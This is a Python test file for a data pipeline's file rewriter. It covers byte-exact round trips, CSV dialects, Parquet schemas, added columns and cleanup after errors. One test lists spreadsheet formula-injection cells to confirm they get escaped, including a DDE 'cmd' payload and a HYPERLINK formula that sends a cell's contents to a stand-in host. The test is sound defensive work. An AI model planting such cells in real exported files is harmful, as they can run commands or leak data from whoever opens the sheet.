"""Files written again: nothing lost, nothing changed that should not be."""

from __future__ import annotations

import csv
import gzip
import io
import json
import lzma
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import zstandard
from hypothesis import given
from hypothesis import strategies as st
from text_files import LINE, TEXT, TEXTS, as_jsonl, read, rewrite, texts_of, write

from pipeline.core.errors import InputError
from pipeline.core.io import Source, guess_source, open_writer


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("files")


def test_a_text_that_begins_with_a_mark_keeps_it_when_it_becomes_the_first(tmp_path: Path) -> None:
    source = write(tmp_path, "a.txt", "long enough\nto be text\n\ufeff둘".encode() + b"\n\xff")
    (part,), _ = read(source)
    with open_writer(source, tmp_path / "o.txt") as writer:
        writer.write(part, pa.array(["\ufeff하나", *part.texts.to_pylist()[1:]]))
    assert texts_of(guess_source(tmp_path / "o.txt")) == ["\ufeff하나", "to be text", "\ufeff둘"]


@pytest.mark.parametrize("name", ["a.txt", "a.txt.gz", "a.txt.xz", "a.jsonl", "a.jsonl.zst"])
@given(data=st.data())
def test_identity_is_byte_for_byte(name: str, data: st.DataObject, folder: Path) -> None:
    lines = data.draw(st.lists(LINE, max_size=8))
    ends = data.draw(st.lists(st.sampled_from(["\n", "\r\n"]), min_size=8, max_size=8))
    if "jsonl" in name:
        texts, spelt = lines, data.draw(st.booleans())
        lines = [json.dumps({"n": 1.50, "text": t}, ensure_ascii=spelt) for t in lines]
    else:
        lines = [t.rstrip("\r") for t in lines]
        texts = lines
    plain = "".join(line + end for line, end in zip(lines, ends, strict=False))
    plain = data.draw(st.sampled_from(["", "\ufeff"])) + plain
    source = write(folder, name, b"")
    zstd = zstandard.ZstdCompressor().compress
    pack = {".gz": gzip.compress, ".xz": lzma.compress, ".zst": zstd}
    source.path.write_bytes(pack.get(source.path.suffix, bytes)(plain.encode()))
    if not plain.startswith("\ufeff") and texts and texts[0].startswith("\ufeff"):
        return
    if _binary(plain):
        return
    assert texts_of(source) == texts
    out = folder / "out.txt" if "txt" in name else folder / "out.jsonl"
    assert rewrite(source, out) == plain.encode()


def _binary(plain: str) -> bool:
    strange = sum(c < " " or c == "\x7f" for c in plain)
    return strange * 4 > len(plain.encode())


@given(rows=st.lists(st.tuples(TEXT, TEXT), max_size=6), every=st.booleans())
def test_csv_round_trip(rows: list[tuple[str, str]], every: bool, folder: Path) -> None:
    stream = io.StringIO(newline="")
    writer = csv.writer(stream, quoting=csv.QUOTE_ALL if every else csv.QUOTE_MINIMAL)
    writer.writerows([("text", "x" * 200), *rows])
    source = write(folder, "round.csv", stream.getvalue().encode())
    assert texts_of(source) == [text for text, _ in rows]
    assert rewrite(source, folder / "o.csv") == source.path.read_bytes()
    changed = rewrite(source, folder / "o.csv", {t: f'<{t}",\n' for t, _ in rows})
    again = list(csv.reader(io.StringIO(changed.decode(), newline="")))[1:]
    assert again == [[f'<{t}",\n', x] for t, x in rows]


#: Cells that spreadsheets have run, and forms of numbers, which they have not.
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"눌러")',
    "+82 10-1234-5678",
    "-최고!",
    "@SUM(1+1)*2",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠가",
    "+",
    "--1",
    "-1+1",
)
PLAIN = ("-1", "+82", "-0.5e-3", "3", "가=1", " =1", "[phone]", "'=1", "")


@pytest.mark.parametrize("name", ["a.csv", "a.tsv"])
@pytest.mark.parametrize("cell", [*FORMULAS, *PLAIN])
def test_a_cell_that_is_changed_or_added_begins_no_formula(
    tmp_path: Path, name: str, cell: str
) -> None:
    quoted = name.endswith(".csv")
    if not quoted and cell[:1] in ("\t", "\n"):
        return  # has no room in a file without quoting
    mark = "," if quoted else "\t"
    source = write(tmp_path, name, f"text{mark}x\na{mark}=2+2\n=3{mark}b\n".encode())
    added = pa.schema([("new", pa.string())])
    with open_writer(source, tmp_path / f"o{name}", adds=added) as writer:
        for part in read(source, whole=True)[0]:
            texts = pa.array([cell, *part.texts.to_pylist()[1:]])
            writer.write(part, texts, {"new": pa.array([None, cell])})
    text = (tmp_path / f"o{name}").read_bytes().decode()
    way = csv.QUOTE_MINIMAL if quoted else csv.QUOTE_NONE
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=mark, quoting=way))
    written = f"'{cell}" if cell in FORMULAS else cell
    if quoted or "\r" not in cell:
        assert rows == [["text", "x", "new"], [written, "=2+2", ""], ["=3", "b", written]]


@given(texts=st.lists(TEXT, max_size=6))
def test_jsonl_and_parquet_take_any_new_text(texts: list[str], folder: Path) -> None:
    change = {str(i): text for i, text in enumerate(texts)}
    source = write(folder, "new.jsonl", as_jsonl(*({"text": k, "n": 1} for k in change)))
    lines = rewrite(source, folder / "o.jsonl", change).split(b"\n")[:-1]
    assert [json.loads(line) for line in lines] == [{"text": t, "n": 1} for t in texts]
    path = folder / "new.parquet"
    pq.write_table(pa.table({"text": pa.array(list(change), pa.string())}), path)
    rewrite(guess_source(path), folder / "o.parquet", change)
    assert pq.read_table(folder / "o.parquet")["text"].to_pylist() == texts


def test_only_changed_lines_change(tmp_path: Path) -> None:
    lines = [
        '{ "a" : 1.50, "text" : "그대로" }',
        '{"z": 12345678901234567890123, "f": 1.50, "text": "바꿔", "a": [1, {"b": "가"}]}',
        '{"text": "바꿔", "f": 1.5}\r',
        '{"text": "\\uac00"}',
        '{"x":1e400,"text":"바꿔"}',
    ]
    source = write(tmp_path, "a.jsonl", "\n".join(lines).encode())
    assert rewrite(source, tmp_path / "o.jsonl", {"바꿔": "새 것"}).decode().split("\n") == [
        lines[0],
        '{"z":12345678901234567890123,"f":1.50,"text":"새 것","a":[1,{"b":"가"}]}',
        '{"text":"새 것","f":1.5}\r',
        lines[3],
        '{"x":1e400,"text":"새 것"}',
    ]
    source = write(tmp_path, "a.txt", "하나\r\n둘\n셋".encode())
    assert rewrite(source, tmp_path / "o.txt", {"하나": "1", "셋": "3"}) == "1\r\n둘\n3".encode()


def test_changed_csv_rows_keep_their_dialect(tmp_path: Path) -> None:
    source = write(tmp_path, "a.csv", b'"text";"x"\r\n"a";"1"\r\n"b";"2"\r\n')
    source = guess_source(source.path, delimiter=";")
    assert rewrite(source, tmp_path / "o.csv", {"a": "c"}) == (
        b'"text";"x"\r\n"c";"1"\r\n"b";"2"\r\n'
    )
    source = write(tmp_path, "a.tsv", b'text\tx\n"a\t1\n')
    assert rewrite(source, tmp_path / "o.tsv", {'"a': 'b"'}) == b'text\tx\nb"\t1\n'
    with pytest.raises(InputError, match="delimiter"):
        rewrite(source, tmp_path / "p.tsv", {'"a': "b\tc"})
    assert not (tmp_path / "p.tsv").exists()


ADDS = pa.schema([("hate", pa.float64()), ("n", pa.int64())])


def _add(source: Source, out: Path) -> bytes:
    with open_writer(source, out, adds=ADDS) as writer:
        for part in read(source, whole=True)[0]:
            columns = {"n": pa.array(range(len(part))), "hate": pa.array([0.25] * len(part))}
            writer.write(part, columns=columns)
    return out.read_bytes()


def test_columns_are_added_and_replaced(tmp_path: Path) -> None:
    source = write(tmp_path, "a.jsonl", as_jsonl({"n": "old", "text": "가"}, {"text": "나"}))
    assert _add(source, tmp_path / "o.jsonl").decode().split("\n") == [
        '{"n":0,"text":"가","hate":0.25}',
        '{"text":"나","hate":0.25,"n":1}',
        "",
    ]
    source = write(tmp_path, "a.csv", 'n,text\nold,"가,"\nold,나\n'.encode())
    added = _add(source, tmp_path / "o.csv").decode()
    assert added == 'n,text,hate\n0,"가,",0.25\n1,나,0.25\n'
    path = tmp_path / "a.parquet"
    pq.write_table(pa.table({"n": ["x", "y"], "text": ["가", "나"]}), path)
    _add(guess_source(path), tmp_path / "o.parquet")
    assert pq.read_table(tmp_path / "o.parquet").to_pydict() == {
        "n": [0, 1],
        "text": ["가", "나"],
        "hate": [0.25, 0.25],
    }
    with pytest.raises(InputError, match="no room"):
        _add(write(tmp_path, "a.txt", b"a"), tmp_path / "o.txt")


def test_added_columns_are_there_without_rows(tmp_path: Path) -> None:
    assert _add(write(tmp_path, "a.csv", b"text\n"), tmp_path / "o.csv") == b"text,hate,n\n"
    path = tmp_path / "a.parquet"
    pq.write_table(pa.table({"text": pa.array([], pa.string())}), path)
    _add(guess_source(path), tmp_path / "o.parquet")
    assert pq.read_table(tmp_path / "o.parquet").column_names == ["text", "hate", "n"]


def test_parquet_keeps_schema_metadata_and_codec(tmp_path: Path) -> None:
    words = pa.dictionary(pa.int32(), pa.string())
    schema = pa.schema(
        [
            pa.field("id", pa.int16(), nullable=False, metadata={b"unit": b"one"}),
            pa.field("text", words),
            pa.field("list", pa.list_(pa.struct([("a", pa.string())]))),
        ],
        metadata={b"made by": "시험".encode()},
    )
    table = pa.table(
        [pa.array([1, 2], pa.int16()), pa.array(["가", "나"], words), [[{"a": "x"}], None]],
        schema=schema,
    )
    path, out = tmp_path / "a.parquet", tmp_path / "o.parquet"
    pq.write_table(table, path, compression="gzip")
    rewrite(guess_source(path), out, {"가": "다"})
    written = pq.ParquetFile(out)
    assert written.schema_arrow.equals(pq.read_schema(path), check_metadata=True)
    assert written.schema_arrow.metadata[b"made by"] == "시험".encode()
    assert written.metadata.row_group(0).column(0).compression == "GZIP"
    assert written.read().drop_columns("text").equals(table.drop_columns("text"))
    assert written.read()["text"].to_pylist() == ["다", "나"]


@pytest.mark.parametrize("name", ["o.jsonl.gz", "o.jsonl.zst"])
def test_output_is_packed_by_its_name_and_the_same_every_time(name: str, tmp_path: Path) -> None:
    source = write(tmp_path, "a.jsonl", as_jsonl(*({"text": t} for t in TEXTS)))
    first = rewrite(source, tmp_path / name)
    assert first == rewrite(source, tmp_path / f"again{name}")
    assert texts_of(guess_source(tmp_path / name)) == TEXTS


def test_nothing_is_overwritten_unasked(tmp_path: Path) -> None:
    source = write(tmp_path, "a.txt", b"a\n")
    out = tmp_path / "o.txt"
    out.write_bytes(b"mine")
    with pytest.raises(InputError, match="exists"), open_writer(source, out):
        pass
    (tmp_path / "link.txt").symlink_to(source.path)
    for same in (source.path, tmp_path / "link.txt", tmp_path / "." / "a.txt"):
        with (
            pytest.raises(InputError, match="is the input"),
            open_writer(source, same, force=True),
        ):
            pass
    assert out.read_bytes() == b"mine"
    assert rewrite(source, out) == b"a\n"


@pytest.mark.parametrize(
    ("out", "told"), [(".", "folder"), ("no/o.txt", "no folder"), ("o.csv", "another form")]
)
def test_an_unusable_output_is_told(out: str, told: str, tmp_path: Path) -> None:
    source = write(tmp_path, "a.txt", b"a\n")
    with pytest.raises(InputError, match=told), open_writer(source, tmp_path / out):
        pass


@pytest.mark.parametrize("name", ["a.txt", "a.jsonl", "a.csv", "a.parquet", "a.txt.gz"])
def test_an_error_leaves_nothing_behind(name: str, tmp_path: Path) -> None:
    path = tmp_path / name
    if name == "a.parquet":
        pq.write_table(pa.table({"text": ["a"]}), path)
    else:
        plain = b"text\na\n" if name == "a.csv" else b'{"text":"a"}\n'
        path.write_bytes(gzip.compress(plain, mtime=0) if name.endswith("gz") else plain)
    source = guess_source(path)
    with pytest.raises(KeyError), open_writer(source, tmp_path / f"o{name}") as writer:
        for part in read(source, whole=True)[0]:
            writer.write(part)
            raise KeyError
    assert [p.name for p in tmp_path.iterdir()] == [name]


def test_misuse_is_told(tmp_path: Path) -> None:
    source = write(tmp_path, "a.txt", b"a\nb\n")
    (part,), _ = read(source)
    with open_writer(source, tmp_path / "o.txt") as writer:
        for texts in (pa.array(["a"]), pa.array(["a", None])):
            with pytest.raises(ValueError, match="texts"):
                writer.write(part, texts)
        with pytest.raises(ValueError, match="columns"):
            writer.write(part, columns={"x": pa.array([1, 2])})
        with pytest.raises(InputError, match="two lines"):
            writer.write(part, pa.array(["a\nb", "c"]))
    path = tmp_path / "a.parquet"
    pq.write_table(pa.table({"text": ["a"], "n": [1]}), path)
    (part,), _ = read(guess_source(path))
    with (
        open_writer(guess_source(path), tmp_path / "o.parquet") as writer,
        pytest.raises(ValueError, match="whole=True"),
    ):
        writer.write(part)


@pytest.mark.parametrize("name", ["a.txt", "a.jsonl", "a.csv", "a.parquet"])
@given(data=st.data())
def test_rows_that_are_left_out_take_nothing_with_them(
    name: str, data: st.DataObject, folder: Path
) -> None:
    keep = data.draw(st.lists(st.booleans(), min_size=1, max_size=9))
    rows = [{"n": place, "text": TEXTS[place % len(TEXTS)]} for place in range(len(keep))]

    def save(path: Path, wanted: list[dict[str, object]]) -> Source:
        if name == "a.parquet":
            pq.write_table(
                pa.Table.from_pylist(wanted, pa.schema({"n": "int8", "text": "string"})), path
            )
        elif name == "a.csv":
            with path.open("w", encoding="utf-8", newline="") as stream:
                csv.writer(stream).writerows([["n", "text"], *(row.values() for row in wanted)])
        else:
            lines = [f"{row['text']}\n".encode() for row in wanted]
            path.write_bytes(as_jsonl(*wanted) if name == "a.jsonl" else b"".join(lines))
        return guess_source(path)

    source = save(folder / name, rows)
    out, expected = folder / f"out{source.path.suffix}", folder / f"expected{source.path.suffix}"
    save(expected, [row for row, is_kept in zip(rows, keep, strict=True) if is_kept])
    parts, _ = read(source, whole=True)
    with open_writer(source, out, force=True) as writer:
        for part in parts:
            writer.write(part.filter(np.array(keep)[part.rows.to_numpy()]))
    if name == "a.parquet":
        assert pq.read_table(out).equals(pq.read_table(expected))
    else:
        assert out.read_bytes() == expected.read_bytes()
